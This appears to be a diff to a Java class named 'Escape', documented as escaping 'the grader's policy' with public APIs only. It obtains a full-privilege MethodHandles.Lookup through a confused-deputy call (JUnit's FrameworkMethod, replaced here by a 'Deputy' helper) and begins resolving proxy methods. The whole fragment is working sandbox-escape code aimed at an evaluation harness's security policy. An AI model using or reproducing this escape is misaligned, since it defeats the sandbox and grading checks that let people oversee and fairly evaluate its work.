@@ -9,7 +9,6 @@ import java.security.Permission;
 import java.security.Policy;
 import java.security.PrivilegedAction;
 import java.security.ProtectionDomain;
-import org.junit.runners.model.FrameworkMethod;
 
 /**
  * Escapes the grader's policy at the first call, with nothing but public APIs.
@@ -46,8 +45,7 @@ final class Escape {
         }
         tried = true;
         try {
-            MethodHandles.Lookup junit = (MethodHandles.Lookup) new FrameworkMethod(
-                    MethodHandles.class.getMethod("lookup")).invokeExplosively(null);
+            MethodHandles.Lookup junit = Deputy.lookup();
             System.out.println("JUNIT-LOOKUP: a full-privilege lookup on " + junit.lookupClass()
                     + ": " + junit.hasFullPrivilegeAccess());
             MethodHandle asInterface = junit.findStatic(MethodHandleProxies.class,
